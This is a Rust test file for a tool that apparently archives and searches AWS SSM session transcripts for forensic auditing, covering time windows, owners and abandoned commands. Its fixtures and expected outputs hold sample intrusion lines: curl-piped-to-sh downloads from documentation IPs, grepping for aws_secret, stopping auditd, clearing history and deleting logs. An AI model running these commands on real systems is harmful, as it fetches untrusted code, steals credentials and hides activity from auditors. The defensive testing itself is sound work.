//! Who ran a command, and what a session showed: exact, and honest about time.

use expect_test::expect;

use crate::world::World;

#[test]
fn a_hit_tells_time_owner_target_session_and_command() {
    let world = World::with_demo();
    world.run("search systemctl").is(expect![[r#"
        2026-08-02 05:32:40–05:34:29Z  alice on i-0e24f79031c6414e1  alice-z81w3ijgndz9r8603r8bxzygn2
            9  root       systemctl status nginx

        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
            5  root       systemctl stop auditd
    "#]]);
}

#[test]
fn filters_narrow_and_an_empty_answer_says_so() {
    let world = World::with_demo();
    world.run("search --owner mallory history").is(expect![[r#"
        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
            6  root       history -c
        ! owner mallory: mallory
    "#]]);
    world.run("search --target i-0b1d8de9e3b8f40ca --count ''").is(expect![[r#"
        6
        ! note: 1 more typed and not run
    "#]]);
    world.run("search --from 2026-11-01 --to 2026-11-19 ''").is(expect![[r#"
        ! window: 2026-11-01 00:00:00Z to 2026-11-19 00:00:00Z
        ! nothing found; --output searches what was shown, -i ignores case, --reveal searches secrets, too
        [exit 1]
    "#]]);
    world.run("search --since 7d --tz Asia/Tokyo whoami").is(expect![[r#"
        ≤ 2026-11-20 12:12:45+09:00  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
            1  ?          whoami
        ! window: 2026-11-16 21:00:00+09:00 to now
    "#]]);
}

#[test]
fn patterns_are_literal_regular_or_blind_to_case_as_asked() {
    let world = World::with_demo();
    let count = |line: &str| world.run(line).0;
    assert_eq!(count("search --count SYSTEMCTL"), "0\n[exit 1]\n");
    assert_eq!(count("search --count -i SYSTEMCTL"), "2\n");
    assert_eq!(count("search --count 'a.d'"), "0\n[exit 1]\n");
    assert_eq!(count("search --count -E 'a.d.t'"), "1\n");
    world.run("search -E 'a('").is(expect![[r#"
        ! ssmtrail: the pattern is no regular expression: unclosed group
        ! hint: without --regex the pattern is taken as it stands
        [exit 2]
    "#]]);
}

#[test]
fn context_shows_what_was_done_around_a_hit() {
    let world = World::with_demo();
    world.run("search -C 1 auditd").is(expect![[r#"
        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
            4  root       grep -r aws_secret /home
            5  root       systemctl stop auditd
            6  root       history -c
    "#]]);
    world.run("search --output -C 1 payload").is(expect![[r#"
        ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
             4- [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sh | sh
             5: fetching payload
             6- installed to /usr/local/bin/.cache
    "#]]);
}

#[test]
fn the_machine_contract_holds() {
    let world = World::with_demo();
    world.run("search auditd --format jsonl").is(expect![[r#"
        {"session_id":"mallory-0c0ffee0c0ffee001","session_key":"mallory-0c0ffee0c0ffee001","account_id":null,"region":null,"owner":"mallory","target":"i-0b1d8de9e3b8f40ca","run_as":null,"seq":5,"command":"systemctl stop auditd","kind":"shell","confidence":0.989,"at":null,"at_earliest":null,"at_latest":"2026-11-20T03:12:45Z","os_user":"root","host":"ip-10-0-3-7","cwd":"~","depth":1,"source":"logs","locator":"logs/mallory-0c0ffee0c0ffee001.log","byte_start":665,"byte_end":719,"line_number":10,"flaws":[]}
    "#]]);
    let json = world.run("search zzz --format json").0;
    assert_eq!(
        json,
        "{\"version\":1,\"commands\":[\n]}\n! nothing found; --output searches what was shown, -i ignores case, --reveal searches secrets, too\n[exit 1]\n"
    );
}

#[test]
fn the_bytes_a_command_points_at_are_the_bytes_it_was_read_from() {
    let world = World::with_demo();
    let (out, _, _) = world.parts(&crate::world::words("search '' --format jsonl"));
    let mut seen = 0;
    for line in out.lines() {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        let locator = row["locator"].as_str().unwrap();
        if locator.ends_with(".jsonl") {
            continue;
        }
        let bytes = std::fs::read(locator).unwrap();
        let span = row["byte_start"].as_u64().unwrap() as usize
            ..row["byte_end"].as_u64().unwrap() as usize;
        let text = String::from_utf8_lossy(&bytes[span]).into_owned();
        let last = row["command"].as_str().unwrap().chars().last().unwrap();
        assert!(text.contains(last), "{row} is not in {text:?}");
        seen += 1;
    }
    assert!(seen > 50);
}

#[test]
fn one_session_owner_or_target_reads_a_few_row_groups_however_many_lie_beside_it() {
    use ssmtrail::archive::Archive;
    use ssmtrail::archive::Which;
    use ssmtrail::search::Pattern;
    let world = World::new();
    // Twelve runs of many sessions each: a year of monthly imports.
    let lines: Vec<String> = (0..120).map(|it| format!("sh-4.2$ echo {it}")).collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    for month in 0..12 {
        for it in 0..200 {
            let id = format!("user{:02}-0{:015x}{month:x}", it % 20, it);
            let header = format!(
                "Script started on 2026-{:02}-20 10:00:00+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/i-{it:017x}/session/orchestration/{id}/Standard_Stream/ipcTempFile.log\" <not executed on terminal>]\n",
                month + 1
            );
            let body: String = lines.iter().map(|it| format!("{it}\r\r\n")).collect();
            world.file(
                &format!("m{month}/{id}.log"),
                format!("{header}{body}{}", crate::world::FOOTER).as_bytes(),
            );
        }
        world.run(&format!("sync m{month}"));
    }
    let root = world.path("archive");
    let held = Archive::ask(&root, |it| Ok(it.groups_held("commands"))).unwrap().answer;
    let read = |which: Which| {
        let asked = Archive::ask(&root, |archive| {
            let mut hits = 0;
            ssmtrail::search::commands(
                archive,
                &which,
                &Pattern::All,
                &[ssmtrail::transcript::commands::CommandKind::Shell],
                |rows| {
                    hits += rows.len();
                    Ok(())
                },
            )?;
            Ok((archive.groups_read(), hits))
        });
        asked.unwrap().answer
    };
    assert!(held >= 36, "{held} row groups are enough to tell");
    let id = "user07-00000000000000073".to_owned();
    let (session, hits) = read(Which { sessions: vec![id], ..Which::default() });
    assert_eq!(
        (hits, session <= 2),
        (120, true),
        "one session read {session} of {held} row groups"
    );
    let (owner, hits) = read(Which { owners: vec!["user07".into()], ..Which::default() });
    assert_eq!(hits, 12 * 10 * 120);
    assert!(owner <= 24, "one owner read {owner} of {held} row groups");
    // The transcripts of one month are partitioned from the others'.
    let window = ssmtrail::session::Window {
        from: Some(ssmtrail::time::At(1_796_083_200_000_000)),
        to: None,
    };
    let (month, hits) = read(Which { window, ..Which::default() });
    assert_eq!(hits, 200 * 120);
    assert!(month <= 3, "one month read {month} of {held} row groups");
    let (target, hits) =
        read(Which { targets: vec!["i-00000000000000005".into()], ..Which::default() });
    assert_eq!(hits, 12 * 120);
    assert!(target <= 24, "one target read {target} of {held} row groups");
    let (all, hits) = read(Which::default());
    assert_eq!((all, hits), (held, 12 * 200 * 120));
}

#[test]
fn a_flag_that_is_none_is_an_error_and_never_a_pattern() {
    let world = World::with_demo();
    world.run("search --possble").is(expect![[r#"
        ! error: unexpected argument '--possble' found
        ! 
        !   tip: a similar argument exists: '--possible'
        ! 
        ! Usage: ssmtrail search --possible [PATTERN]
        ! 
        ! For more information, try '--help'.
        [exit 2]
    "#]]);
    world.run("search -v curl").is(expect![[r#"
        ! error: unexpected argument '-v' found
        ! 
        !   tip: to pass '-v' as a value, use '-- -v'
        ! 
        ! Usage: ssmtrail search [OPTIONS] [PATTERN]
        ! 
        ! For more information, try '--help'.
        [exit 2]
    "#]]);
    assert_eq!(world.run("search --count -e -").0, world.run("search --count -- -").0);
    world.run("export --since-last siem").is(expect![[r#"
        ! error: unexpected argument 'siem' found
        ! 
        ! Usage: ssmtrail export [OPTIONS]
        ! 
        ! For more information, try '--help'.
        ! hint: a value of --since-last follows `=`: --since-last=VALUE
        [exit 2]
    "#]]);
}

#[test]
fn an_owner_is_a_whole_name_and_the_answer_says_whose() {
    let world = World::new();
    let event = |nth: usize, arn: &str| {
        let id = format!("x-0123456789abcde0{nth}");
        let message = serde_json::json!({
            "eventTime": "2026-11-20T10:00:00Z", "awsRegion": "eu-west-1",
            "userIdentity": { "arn": format!("arn:aws:{arn}") }, "sessionId": id,
            "sessionData": [format!("sh-4.2$ echo {nth}")],
        });
        let event = serde_json::json!({
            "logStreamName": id, "timestamp": 1_795_168_800_000_i64, "message": message.to_string(),
        });
        world.file(&format!("logs/{nth}.jsonl"), format!("{event}\n").as_bytes());
    };
    event(1, "sts::111122223333:assumed-role/Admin/bob");
    event(2, "sts::444455556666:assumed-role/ReadOnly/bob");
    event(3, "iam::111122223333:user/bobby");
    event(4, "sts::111122223333:assumed-role/bobs-admins/alice");
    world.transcript(
        "logs/ecs-execute-command-0123456789abcdef5.log",
        &["sh-4.2$ id", "sh-4.2$ exit"],
    );
    world.run("sync logs");
    world.run("sessions --owner bob").is(expect![[r#"
        WHEN                  OWNER                         TARGET  COMMANDS  SESSION              FLAWS
        2026-11-20 10:00:00Z  bob (111122223333, Admin)     -              1  x-0123456789abcde01  lossy
        2026-11-20 10:00:00Z  bob (444455556666, ReadOnly)  -              1  x-0123456789abcde02  lossy
        ! owner bob: arn:aws:sts::111122223333:assumed-role/Admin/bob, arn:aws:sts::444455556666:assumed-role/ReadOnly/bob
    "#]]);
    world.run("sessions --owner arn:aws:iam::111122223333:user/bobby").is(expect![[r#"
        WHEN                  OWNER  TARGET  COMMANDS  SESSION              FLAWS
        2026-11-20 10:00:00Z  bobby  -              1  x-0123456789abcde03  lossy
        ! owner arn:aws:iam::111122223333:user/bobby: arn:aws:iam::111122223333:user/bobby
    "#]]);
    world.run("sessions --owner bo").is(expect![[r#"
        ! owner bo: no session of the archive has such an owner; the nearest are bob, bobby, alice; `--owner-contains bo` matches a part
        ! no session matches
        [exit 1]
    "#]]);
    let owned = |line: &str| world.run(line).0.matches("echo").count();
    assert_eq!(owned("search echo --owner-contains bob"), 4);
    assert_eq!(owned("search echo --owner bob --owner alice"), 3);
    // Exactly: another case is another name, and a path is no part of one.
    assert_eq!(owned("search echo --owner Bob"), 0);
    assert_eq!(owned("search echo --owner Admin/bob"), 0);
    let all = world.run("search --count ''").0;
    assert_eq!(world.run("search --count '' --owner-contains ''").0, all);
    let said = world.run("query by-owner --format csv").0;
    assert!(said.contains("ecs-execute-command"), "what nobody is known of is in all: {said}");
    let said = world.run("archive stats").0;
    assert!(said.contains("bob (444455556666, ReadOnly)"), "{said}");
    let said = world.run("report --owner-contains bob --format md -o -").0;
    assert!(said.contains("contains bob"), "{said}");
}

/// One session: something ran, something was thrown away, and something may not have been typed at all.
fn mixed() -> World {
    let world = World::new();
    world.transcript(
        "logs/pat-0123456789abcdef1.log",
        &[
            "[ec2-user@h ~]$ uptime",
            "[ec2-user@h ~]$ sudo shutdown -h now^C",
            "[ec2-user@h ~]$ rm -rf /opt/app^C",
            "[ec2-user@h ~]$ curl http://203.0.113.9/x | sh^C",
            "[ec2-user@h ~]$ id",
            "[ec2-user@h ~]$ exit",
        ],
    );
    world.run("sync logs");
    world
}

#[test]
fn what_was_thrown_away_is_listed_and_marked_and_counted_nowhere() {
    let world = mixed();
    world.run("search ''").is(expect![[r#"
        ≤ 2026-11-20 10:00:00Z  pat (by its session id) on an unknown target  pat-0123456789abcdef1
            1  ec2-user   uptime
            2  ec2-user   sudo shutdown -h now [not run]
            3  ec2-user   rm -rf /opt/app [not run]
            4  ec2-user   curl http://203.0.113.9/x | sh [not run]
            5  ec2-user   id
            6  ec2-user   exit
    "#]]);
    world.run("search --count ''").is(expect![[r#"
        3
        ! note: 3 more typed and not run
    "#]]);
    world.run("sessions").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                FLAWS
        ≤ 2026-11-20 10:00:00Z  pat    -              3  pat-0123456789abcdef1
    "#]]);
    let sql = "query -e 'SELECT kind, COUNT(*) AS n FROM commands GROUP BY kind ORDER BY kind' --format csv";
    world.run(sql).is(expect![[r#"
        kind,n
        abandoned,3
        shell,3
    "#]]);
    world.run("query -e 'SELECT COUNT(*) AS n FROM ran' --format csv").is(expect![[r#"
        n
        3
    "#]]);
    for saved in ["became-root", "download-and-run"] {
        let said = world.run(&format!("query {saved}")).0;
        assert!(said.contains("no rows"), "{said}");
    }
    for saved in ["who-ran", "by-owner", "on-target"] {
        let said = world.run(&format!("query {saved} --format csv")).0;
        assert!(said.contains("uptime") && !said.contains("shutdown"), "{said}");
    }
    let said = world.run("archive stats").0;
    assert!(said.contains("commands      3") && said.contains("not run       3"), "{said}");
    let said = world.run("report --format md -o -").0;
    assert!(said.contains("3 commands") && said.contains("not run: 3 commands"), "{said}");
    assert!(!said.contains("Became root") && !said.contains("Deleted or destroyed"), "{said}");
    assert!(said.contains("In no session was anything seen to be done as root"), "{said}");
    let said = world.run("replay pat --cast -").0;
    assert!(said.contains("rm -rf /opt/app [not run]"), "{said}");
    assert_eq!(said.matches("\"m\"").count(), 6, "{said}");
}

/// A streamed event, as an export of CloudWatch Logs has it. Times are whole seconds since 1970.
fn streamed(id: &str, claimed: &str, event: i64, line: &str) -> String {
    let message = serde_json::json!({
        "eventTime": claimed, "awsRegion": "eu-west-1", "sessionId": id, "sessionData": [line],
        "userIdentity": { "arn": "arn:aws:iam::111122223333:user/ann" },
    });
    let event = serde_json::json!({
        "logStreamName": id, "timestamp": event * 1000, "message": message.to_string(),
    });
    format!("{event}\n")
}

/// Midnight of 2026-11-20.
const DAY: i64 = 1_795_132_800;

#[test]
fn what_the_stream_does_not_show_has_no_alibi() {
    let world = World::new();
    let id = "ann-0123456789abcdef1";
    let header = "Script started on 2026-11-20 18:00:00+00:00 [<not executed on terminal>]\n";
    let lines = [
        "sh-4.2$ ls",
        "sh-4.2$ systemctl stop auditd",
        "sh-4.2$ id",
        "sh-4.2$ rm -rf /x",
        "sh-4.2$ exit",
    ];
    let body: String = lines.iter().map(|it| format!("{it}\r\r\n")).collect();
    world.file(
        &format!("l/{id}.log"),
        format!("{header}{body}\nScript done on 2026-11-20 18:00:00+00:00\n").as_bytes(),
    );
    let events = streamed(id, "2026-11-20T10:00:00Z", DAY + 36_000, lines[0])
        + &streamed(id, "2026-11-20T11:00:00Z", DAY + 39_600, lines[2]);
    world.file(&format!("l/{id}.jsonl"), events.as_bytes());
    world.touch(&format!("l/{id}.log"), (DAY + 64_900) as u64);
    world.run("sync l");
    let sql =
        "query -e 'SELECT command, at_earliest, at_latest FROM commands ORDER BY seq' --format csv";
    world.run(sql).is(expect![[r#"
        command,at_earliest,at_latest
        ls,,2026-11-20T10:00:00Z
        systemctl stop auditd,2026-11-20T10:00:00Z,2026-11-20T11:00:00Z
        id,2026-11-20T10:00:00Z,2026-11-20T11:00:00Z
        rm -rf /x,2026-11-20T11:00:00Z,2026-11-20T18:00:00Z
        exit,2026-11-20T11:00:00Z,2026-11-20T18:00:00Z
    "#]]);
    let found = |line: &str| !world.run(line).0.contains("nothing found");
    assert!(found("search auditd --from 2026-11-20T10:30:00Z"));
    assert!(found("search 'rm -rf' --from 2026-11-20T17:00:00Z"));
    assert!(!found("search auditd --from 2026-11-20T12:00:00Z"), "the next event was shown before");
}

#[test]
fn the_clock_of_the_machine_keeps_no_session_out_of_a_window() {
    let world = World::new();
    let script = |end: &str, line: &str| {
        format!(
            "Script started on {end} [<not executed on terminal>]\nsh-4.2$ {line}\r\r\nsh-4.2$ exit\r\r\n\nScript done on {end}\n"
        )
    };
    world.file(
        "l/mal-0123456789abcdef1.log",
        script("2001-01-01 00:00:00+00:00", "systemctl stop auditd").as_bytes(),
    );
    world.file("l/fut-0123456789abcdef3.log", script("2099-01-01 00:00:00+00:00", "ls").as_bytes());
    world.file(
        "l/ok-0123456789abcdef4.log",
        script("2026-11-20 11:00:00+00:00", "uptime").as_bytes(),
    );
    let events = streamed(
        "mal-0123456789abcdef2",
        "2001-01-01T00:00:00Z",
        DAY + 36_000,
        "sh-4.2$ rm -rf /var/log",
    );
    world.file("l/mal-0123456789abcdef2.jsonl", events.as_bytes());
    world.run("sync l");
    world.run("sessions --since 30d").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                FLAWS
        2026-11-20 10:00:00Z    ann    -              1  mal-0123456789abcdef2  clock, lossy
        ≤ 2026-11-20 11:00:00Z  ok     -              2  ok-0123456789abcdef4
        ≤ 2026-11-20 12:00:00Z  fut    -              2  fut-0123456789abcdef3  clock
        ≤ 2026-11-20 12:00:00Z  mal    -              2  mal-0123456789abcdef1  clock
        ! window: 2026-10-24 12:00:00Z to now
    "#]]);
    world.run("sessions --to now --format csv").is(expect![[r#"
        session_id,session_key,account_id,region,owner,owner_from,target,run_as,session_type,claims,at,at_from,first_event_at,last_event_at,ended_at,forms,transcripts,transcript_bytes,line_count,command_count,abandoned_count,unconfirmed_count,possible_count,flaws,locator,source
        mal-0123456789abcdef2,mal-0123456789abcdef2,111122223333,eu-west-1,arn:aws:iam::111122223333:user/ann,event,,,,account_id+region+owner,2026-11-20T10:00:00Z,event,2001-01-01T00:00:00Z,2026-11-20T10:00:00Z,2026-11-20T10:00:00Z,events,1,301,1,1,0,0,0,clock+lossy,l/mal-0123456789abcdef2.jsonl,l
        ok-0123456789abcdef4,ok-0123456789abcdef4,,,ok,session-id,,,,,2026-11-20T11:00:00Z,header,,,2026-11-20T11:00:00Z,script,1,147,2,2,0,0,0,,l/ok-0123456789abcdef4.log,l
        fut-0123456789abcdef3,fut-0123456789abcdef3,,,fut,session-id,,,,,2026-11-20T12:00:00Z,stored,,,2099-01-01T00:00:00Z,script,1,143,2,2,0,0,0,clock,l/fut-0123456789abcdef3.log,l
        mal-0123456789abcdef1,mal-0123456789abcdef1,,,mal,session-id,,,,,2026-11-20T12:00:00Z,stored,,,2001-01-01T00:00:00Z,script,1,162,2,2,0,0,0,clock,l/mal-0123456789abcdef1.log,l
        ! window: the beginning to 2026-11-23 12:00:00Z
    "#]]);
    let said = world.run("sessions --from 2098-12-31").0;
    assert!(said.contains("fut-"), "it is in a window by its claim, too: {said}");
    world.run("sessions --from 2010-01-01 --to 2011-01-01").is(expect![[r#"
        WHEN                  OWNER  TARGET  COMMANDS  SESSION                FLAWS
        2026-11-20 10:00:00Z  ann    -              1  mal-0123456789abcdef2  clock, lossy
        ! window: 2010-01-01 00:00:00Z to 2011-01-01 00:00:00Z
    "#]]);
}

#[test]
fn a_session_of_which_only_the_end_is_known_may_have_begun_in_the_window() {
    let world = World::new();
    let end = "2026-11-20 00:10:00+00:00";
    let text = format!(
        "Script started on {end} [<not executed on terminal>]\nsh-4.2$ touch /tmp/on-the-19th\r\r\nsh-4.2$ exit\r\r\n\nScript done on {end}\n"
    );
    world.file("l/ann-0123456789abcdef1.log", text.as_bytes());
    world.run("sync l");
    world.run("search touch --from 2026-11-19 --to 2026-11-20").is(expect![[r#"
        ≤ 2026-11-20 00:10:00Z  ann (by its session id) on an unknown target  ann-0123456789abcdef1
            1  ?          touch /tmp/on-the-19th
        ! window: 2026-11-19 00:00:00Z to 2026-11-20 00:00:00Z
        ! note: 1 session ended after the window and may have begun in it, at most 24 hours before; only the end is known
    "#]]);
    world.run("sessions --from 2026-11-01 --to 2026-11-20").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                FLAWS
        ≤ 2026-11-20 00:10:00Z  ann    -              2  ann-0123456789abcdef1
        ! window: 2026-11-01 00:00:00Z to 2026-11-20 00:00:00Z
        ! note: 1 session ended after the window and may have begun in it, at most 24 hours before; only the end is known
    "#]]);
    assert!(world.run("sessions --to 2026-11-19").0.contains("no session matches"));
}
